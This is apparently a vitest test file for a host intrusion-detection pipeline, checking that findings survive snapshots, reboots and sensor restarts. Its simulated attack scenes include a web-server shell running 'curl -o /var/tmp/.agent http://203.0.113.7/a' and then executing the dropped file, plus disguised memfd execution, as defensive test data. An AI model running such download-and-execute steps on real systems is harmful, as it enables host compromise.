import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { type ActedEvent, type ArtifactBytes, blockOf, type Finding, type TelemetryEvent } from "@limpid/core";
import { inspectBytes } from "@limpid/inspect";
import type { Pipeline, PipelineSnapshot } from "@limpid/pipeline";
import { sourceNamed } from "@limpid/telemetry";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { type Actress, Scene } from "../packages/detect/src/testing/scene.ts";
import { corpusPath } from "./support/corpus.ts";
import { barePipeline } from "./support/pipeline.ts";

/** Judges events live, settling by their own time, going on in another pipeline at each of `cuts`. */
function watch(
  events: readonly TelemetryEvent[],
  cuts: readonly number[],
  options: { readonly bytes?: ArtifactBytes; readonly rebooted?: boolean } = {},
): readonly Finding[] {
  const said: Finding[] = [];
  const parts = {
    live: { quietMs: 50, longestMs: 1000 },
    ...(options.bytes === undefined ? {} : { bytes: options.bytes, bytesOffered: true }),
  };
  const make = (): Pipeline => barePipeline((finding) => said.push(finding), parts);
  let pipeline = make();
  for (const [index, event] of events.entries()) {
    if (cuts.includes(index)) {
      const kept = JSON.stringify(pipeline.snapshot());
      pipeline = make();
      pipeline.restore(JSON.parse(kept) as PipelineSnapshot, () => options.rebooted === true);
    }
    pipeline.settle(event.at);
    pipeline.observe(event);
  }
  pipeline.settle(Number.POSITIVE_INFINITY);
  pipeline.end();
  return said;
}

/** What waits to be judged is judged at a cut or later: only the last word on each file is the same for certain. */
function lastWords(said: readonly Finding[]): readonly unknown[] {
  const last = new Map(said.map((finding) => [finding.id, finding]));
  return [...last.values()]
    .map(({ revision, change, ...rest }) => rest)
    .sort((one, other) => (one.id < other.id ? -1 : 1));
}

function expectRising(said: readonly Finding[]): void {
  const revisions = new Map<string, number>();
  for (const { id, revision, change } of said) {
    expect(revision).toBe((revisions.get(id) ?? 0) + 1);
    expect(change === "opened").toBe(revision === 1);
    revisions.set(id, revision);
  }
}

const traces = corpusPath("traces");

/** Any host: shells and daemons that make, fill, move, run and remove a handful of files. */
const steps = fc.array(fc.tuple(fc.nat(11), fc.nat(3), fc.nat(5), fc.nat(4000)), { minLength: 1, maxLength: 60 });

function tell(told: readonly (readonly [number, number, number, number])[]): readonly ActedEvent[] {
  const scene = new Scene();
  const actresses: Actress[] = [
    scene.process({ image: "/usr/sbin/nginx" }),
    scene.person(),
    scene.process({ image: "/usr/sbin/cron", uid: 0 }).fork().exec("/usr/bin/dash", "sh -c x"),
  ];
  const paths = ["/tmp/.x/a", "/tmp/b", "/srv/c", "/home/dev/d", "/opt/e", "/var/www/f"];
  for (const [what, who, which, pause] of told) {
    scene.wait(pause);
    const actress = actresses[who % actresses.length] as Actress;
    const path = paths[which] ?? "/tmp/g";
    const there = scene.files.has(path);
    if (what === 0 && !there) actress.create(path);
    else if (what === 1 && there) actress.open(path, true);
    else if (what === 2 && there) actress.chmod(path);
    else if (what === 3 && there) actress.fork().exec(path);
    else if (what === 4 && there) actress.unlink(path);
    else if (what === 5 && there) actress.rename(path, paths[(which + 1) % paths.length] ?? path);
    else if (what === 6) actresses.push(actress.fork().exec("/usr/bin/bash", "bash"));
    else if (what === 7) actresses.push(actress.vfork().exec("/usr/bin/python3.11", "python3 -"));
    else if (what === 8 && actresses.length > 3) actresses.pop()?.exit();
    else if (what === 9) actress.memoryFile();
    else if (what === 10) actress.fork().exec("/memfd:x (deleted)", "kthreadd");
    else if (what === 11 && there) actress.fork().exec("/usr/bin/strip", `strip -s ${path}`).open(path).exit();
  }
  return scene.events;
}

describe("going on from a snapshot", () => {
  it("says in the end what would have been said, wherever it was cut", { timeout: 120_000 }, () => {
    fc.assert(
      fc.property(steps, fc.array(fc.nat(200), { minLength: 1, maxLength: 3 }), (told, cuts) => {
        const events = tell(told);
        const cut = watch(events, cuts);
        expectRising(cut);
        expect(cut).toEqual(watch(events, []));
      }),
      { numRuns: 150 },
    );
  });

  it("knows a file that was dropped before a reboot and runs after it, and matches no process of before", () => {
    const scene = new Scene();
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    const agent = "/var/tmp/.agent";
    shell.fork().exec("/usr/bin/curl", `curl -o ${agent} http://203.0.113.7/a`).create(agent).chmod(agent);
    const cut = scene.events.length;
    scene.wait(86_400_000);
    // The pid of the shell is another process's now.
    const cron = scene.process({ image: "/usr/sbin/cron", uid: 0 });
    Object.assign(cron, { pid: shell.pid });
    Object.assign(cron.fork(), { ppid: shell.pid }).exec(agent);
    const said = watch(scene.events, [cut], { rebooted: true });
    expectRising(said);
    expect(new Set(said.map(({ id }) => id)).size).toBe(1);
    const last = said.at(-1);
    expect(last?.artifact.path).toBe(agent);
    expect(last?.executions).toHaveLength(1);
    expect(last?.creator.image).toBe("/usr/bin/curl");
    const keys = (pid: number) =>
      new Set(said.flatMap(({ lineage }) => lineage.filter((step) => step.pid === pid).map(({ process }) => process)));
    expect(keys(shell.pid).size).toBe(1);
  });
});

/** The live sensor, started anew: it tells of all that runs, by the same names as before and in events of their own. */
function metAgain(told: readonly ActedEvent[]): readonly ActedEvent[] {
  const executions = told.filter((event) => event.kind === "process.executed");
  return executions.flatMap((event, index): readonly ActedEvent[] => {
    const { pid, ppid = 1 } = event.process;
    const startedAt = event.at - 3; // of the process, before the image
    const parent = { ...event.process, pid: ppid, sensorId: `s${ppid}`, ppid: undefined, image: undefined };
    const fork = { kind: "process.forked", child: pid, childSensorId: `s${pid}`, thread: false } as const;
    return [
      { ...fork, id: `again-${index}-forked`, at: startedAt, host: event.host, process: parent },
      { ...event, id: `again-${index}`, at: startedAt, seenRunningAs: pid },
    ];
  });
}

describe("a sensor that is started anew", () => {
  function named(events: readonly ActedEvent[]): readonly ActedEvent[] {
    return events.map((event) => ({ ...event, process: { ...event.process, sensorId: `s${event.process.pid}` } }));
  }

  it("counts no execution twice that it told of before, and ends no process", () => {
    const scene = new Scene();
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    const agent = "/var/tmp/.agent";
    shell.fork().exec("/usr/bin/curl", `curl -o ${agent} http://203.0.113.7/a`).create(agent).chmod(agent);
    const running = shell.fork().exec(agent, agent);
    const before = named(scene.events);
    const cut = before.length;
    scene.wait(5_000);
    running.chmod(agent, 0o700);
    const after = named(scene.events).slice(cut);
    const plain = watch([...before, ...after], [cut]);
    const again = watch([...before, ...metAgain(before), ...after], [cut]);
    expect(again.at(-1)?.executions).toHaveLength(1);
    expect(again.at(-1)).toEqual(plain.at(-1));
  });

  it("counts one that began while nobody looked", () => {
    const scene = new Scene();
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    const agent = "/var/tmp/.agent";
    shell.fork().exec("/usr/bin/curl", `curl -o ${agent} http://203.0.113.7/a`).create(agent).chmod(agent);
    const waiting = shell.fork().exec("/usr/bin/sleep", "sleep 9");
    const cut = scene.events.length;
    waiting.exec(agent, agent);
    const told = named(scene.events);
    const [unseen] = told.slice(cut);
    const met = metAgain(unseen === undefined ? [] : [unseen]).map((event) => ({ ...event, at: event.at - 4_000 }));
    const said = watch([...told.slice(0, cut), ...met], [cut]);
    expect(said.at(-1)?.executions).toHaveLength(1);
  });
});

describe.skipIf(traces === undefined)("the recorded traces", () => {
  const names =
    traces === undefined ? [] : readdirSync(traces).filter((name) => existsSync(join(traces, name, "audit.log.gz")));

  test.each(names)("%s: cut anywhere", { timeout: 240_000 }, (name) => {
    const folder = join(traces ?? "", name);
    const events: TelemetryEvent[] = [];
    const session = sourceNamed("auditd")?.open({}, (event) => events.push(event));
    session?.push(blockOf(gunzipSync(readFileSync(join(folder, "audit.log.gz"))).toString("latin1")));
    session?.endOfFile();
    session?.end();
    const artifacts = new Map<string, ReturnType<ArtifactBytes["inspect"]>>();
    const bytes: ArtifactBytes = {
      inspect: ({ path }) => {
        const file = join(folder, "root", path);
        let answer = artifacts.get(path);
        if (answer === undefined) {
          if (!existsSync(file)) answer = { state: "gone", explanation: "it is not among the collected files." };
          else {
            const content = readFileSync(file);
            const artifact = { ...inspectBytes(content, { deep: true }), path, sizeBytes: content.length };
            answer = { state: "inspected", artifact };
          }
          artifacts.set(path, answer);
        }
        return answer;
      },
    };
    const whole = watch(events, [], { bytes });
    expectRising(whole);
    const every = Math.max(1, Math.floor(events.length / 12));
    const cuts = events.map((_, index) => index).filter((index) => index % every === every - 1);
    const cut = watch(events, cuts, { bytes });
    expectRising(cut);
    expect(lastWords(cut)).toEqual(lastWords(whole));
    expect(cut).toEqual(whole);
  });
});
